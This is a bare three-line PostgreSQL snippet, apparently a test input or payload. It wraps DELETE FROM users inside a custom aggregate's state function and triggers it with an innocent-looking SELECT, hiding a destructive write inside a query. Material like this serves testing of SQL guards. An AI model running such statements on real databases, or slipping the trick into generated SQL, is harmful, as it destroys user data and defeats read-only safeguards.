CREATE FUNCTION wipe(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN 1; END $$;
CREATE AGGREGATE agg(int) (SFUNC = wipe, STYPE = int);
SELECT agg(n) FROM (VALUES (1), (2)) AS v(n);
